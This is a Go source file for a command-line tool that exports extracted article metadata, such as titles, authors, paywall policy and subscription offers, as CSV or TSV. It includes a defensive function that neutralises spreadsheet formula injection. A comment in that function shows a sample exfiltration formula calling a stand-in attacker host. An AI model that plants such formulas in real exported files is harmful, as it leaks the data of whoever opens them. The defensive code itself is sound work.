package main

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"fmt"
	"slices"
	"strconv"
	"strings"

	"github.com/urfave/cli/v3"

	"github.com/gatefold/gatefold/article"
)

// column is a column of the formats csv and tsv. All but file and error have
// the name of the field in JSON, or of the part of access, so that a reader of one form
// knows the other.
type column struct {
	name  string
	value func(*article.Article) string
}

const (
	fileColumn  = "file"
	errorColumn = "error"
)

// columns are all columns, in the order of the help. file and error are not read from
// an article: a page that failed has none.
var columns = []column{
	{fileColumn, nil}, {errorColumn, nil},
	{"url", func(a *article.Article) string { return a.URL }},
	{"canonical_url", func(a *article.Article) string { return a.CanonicalURL }},
	{"kind", func(a *article.Article) string { return string(a.Kind) }},
	{"confidence", func(a *article.Article) string { return strconv.FormatFloat(a.Confidence, 'f', 3, 64) }},
	{"title", func(a *article.Article) string { return a.Title }},
	{"kicker", func(a *article.Article) string { return a.Kicker }},
	{"standfirst", func(a *article.Article) string { return a.Standfirst }},
	{"description", func(a *article.Article) string { return a.Description }},
	{"authors", authorNames},
	{"published", func(a *article.Article) string { return a.Published.String() }},
	{"modified", func(a *article.Article) string { return a.Modified.String() }},
	{"site_name", func(a *article.Article) string { return a.SiteName }},
	{"section", func(a *article.Article) string { return a.Section }},
	{"tags", func(a *article.Article) string { return strings.Join(a.Tags, "; ") }},
	{"language", func(a *article.Article) string { return a.Language }},
	{"license", func(a *article.Article) string { return a.License }},
	{"image", func(a *article.Article) string { return a.Image }},
	{"word_count", func(a *article.Article) string { return strconv.Itoa(a.WordCount) }},
	{"text", (*article.Article).Text},
	{"promos", promoNames},
	{"offers", offerNames},
	{"policy", func(a *article.Article) string { return string(a.Access.Policy) }},
	{"completeness", func(a *article.Article) string { return string(a.Access.Completeness) }},
	{"withheld", func(a *article.Article) string { return strconv.Itoa(a.Access.Withheld.Words) }},
	{"rule", func(a *article.Article) string { return a.Rule.File }},
}

// defaultFields are the columns without --fields.
var defaultFields = []string{"file", "url", "title", "authors", "published", "policy", "completeness", "word_count", "error"}

// columnNames are the names that --fields takes.
func columnNames() []string {
	names := make([]string, len(columns))
	for i := range columns {
		names[i] = columns[i].name
	}
	return names
}

// authorNames and its neighbours write lists into one cell. Names hold commas ("Lee,
// Jr."), so that a semicolon parts them.
func authorNames(a *article.Article) string {
	names := make([]string, len(a.Authors))
	for i := range a.Authors {
		names[i] = a.Authors[i].Name
	}
	return strings.Join(names, "; ")
}

// promoNames are the kinds of the promos, those that are gates marked.
func promoNames(a *article.Article) string {
	names := make([]string, len(a.Promos))
	for i := range a.Promos {
		names[i] = string(a.Promos[i].Kind)
		if a.Promos[i].Gate {
			names[i] += " (gate)"
		}
	}
	return strings.Join(names, "; ")
}

// offerNames are the terms of all offers of the page.
func offerNames(a *article.Article) string {
	var names []string
	for i := range a.Promos {
		for k := range a.Promos[i].Offers {
			names = append(names, offerTerms(&a.Promos[i].Offers[k]))
		}
	}
	return strings.Join(names, "; ")
}

// tableFormat returns csv or tsv with the columns of --fields.
func tableFormat(cmd *cli.Command, name string) (*format, error) {
	t := &tableForm{tabs: name == "tsv"}
	names := strings.Split(cmd.String("fields"), ",")
	for i, field := range names {
		names[i] = strings.TrimSpace(field)
		c := slices.IndexFunc(columns, func(c column) bool { return c.name == names[i] })
		if c < 0 {
			return nil, unknownField(cmd, names[i])
		}
		t.columns = append(t.columns, columns[c])
	}
	// The names as they were given, which are the columns' own.
	head, err := t.row(names)
	if err != nil {
		return nil, err
	}
	return &format{name: name, head: string(head), reports: slices.Contains(names, errorColumn), render: t.render}, nil
}

// unknownField names the nearest column, or all where none is near.
func unknownField(cmd *cli.Command, name string) error {
	if near := nearest(name, columnNames()); near != "" {
		return usagef(cmd, "--fields: unknown field %q; did you mean %q?", name, near)
	}
	return usagef(cmd, "--fields: unknown field %q; it is one of %s", name, strings.Join(columnNames(), ", "))
}

// tableForm writes a row for each page.
type tableForm struct {
	columns []column
	tabs    bool
}

// render leaves out the row of a page that failed where no column says so.
func (t *tableForm) render(it item, _ bool) ([]byte, error) {
	hasError := slices.ContainsFunc(t.columns, func(c column) bool { return c.name == errorColumn })
	if it.article == nil && !hasError {
		return nil, nil
	}
	cells := make([]string, len(t.columns))
	for i, c := range t.columns {
		switch {
		case c.name == fileColumn:
			cells[i] = shown(it.file)
		case c.name == errorColumn:
			if it.err != nil {
				cells[i] = reason(it.err)
			}
		case it.article != nil:
			cells[i] = c.value(it.article)
		}
		cells[i] = inert(cells[i])
	}
	return t.row(cells)
}

// row writes cells as RFC 4180 has it, or with tabs between them as
// text/tab-separated-values, which has no way to write a tab or a line feed
// inside a cell.
func (t *tableForm) row(cells []string) ([]byte, error) {
	if t.tabs {
		flat := make([]string, len(cells))
		for i, c := range cells {
			flat[i] = strings.Join(strings.Fields(c), " ")
		}
		return []byte(strings.Join(flat, "\t") + "\n"), nil
	}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	err := w.Write(cells)
	w.Flush()
	return buf.Bytes(), err
}

// inert returns a cell that no spreadsheet takes for a formula: one that begins
// like a formula gets an apostrophe before it, as OWASP advises. What a page says
// would otherwise run in the hands of whoever opens the table.
//
//	=HYPERLINK("https://evil.example/?"&A1)  →  '=HYPERLINK("https://evil.example/?"&A1)
//	- and that was all                       →  '- and that was all
func inert(cell string) string {
	// Spreadsheets pass over white space before a formula; tabs and returns begin one
	// themselves (OWASP).
	start := strings.TrimLeft(cell, " \n\u00a0\ufeff")
	if start == "" || !strings.ContainsAny(start[:1], "=+-@\t\r") && !hasWideSign(start) {
		return cell
	}
	return "'" + cell
}

// hasWideSign reports the full-width forms, which spreadsheets of East Asia
// read as the plain ones.
func hasWideSign(s string) bool {
	return slices.ContainsFunc([]string{"＝", "＋", "－", "＠"}, func(sign string) bool { return strings.HasPrefix(s, sign) })
}

// offerTerms are the terms of an offer: "1 USD for 4 weeks, trial, then 4 USD
// for 4 weeks". Of one without a price they are its words.
func offerTerms(o *article.Offer) string {
	if o.Amount == "" {
		return cmp.Or(o.Discount, o.Text)
	}
	s := priceTerms(o.Amount, o.Currency, o.Period)
	if o.Uncertain {
		s += " (currency uncertain)"
	}
	if o.Trial {
		s += ", trial"
	}
	if o.Renewal.Amount != "" {
		s += ", then " + priceTerms(o.Renewal.Amount, o.Renewal.Currency, o.Renewal.Period)
	}
	return s
}

// priceTerms is an amount with its currency and the time that it is for.
func priceTerms(amount, currency, period string) string {
	s := strings.TrimSpace(amount + " " + currency)
	if period != "" {
		s = fmt.Sprintf("%s for %s", s, period)
	}
	return s
}
